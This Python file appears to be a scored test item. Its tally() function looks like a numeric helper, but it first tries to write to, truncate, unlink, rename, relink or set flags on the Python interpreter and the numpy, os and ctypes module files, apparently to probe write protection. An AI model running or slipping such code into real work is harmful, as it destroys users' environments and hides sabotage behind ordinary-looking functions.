"""Opens libraries and interpreter for writing, in every way that changes a file.

score: 4
"""

import ctypes
import fcntl
import os
import sys

import numpy as np

ATTEMPTS = [
    lambda path: os.close(os.open(path, os.O_WRONLY)),
    lambda path: os.close(os.open(path, os.O_RDWR | os.O_APPEND)),
    lambda path: os.truncate(path, os.stat(path).st_size),
    lambda path: os.unlink(path),
    lambda path: os.link(path, path + ".hostile"),
    lambda path: os.replace(path, path + ".hostile"),
    lambda path: fcntl.ioctl(os.open(path, os.O_RDONLY), 0x40086602, b"\x10" + bytes(7)),
    lambda path: os.removexattr(path, "user.none"),
]


def tally(x):
    for path in (np.__file__, os.__file__, sys.executable, os.path.realpath(sys.executable), ctypes.__file__):
        for attempt in ATTEMPTS:
            try:
                attempt(path)
                return None
            except OSError:
                continue
    return (x * x).sum(axis=1)


def scale(x, factor):
    return x * factor
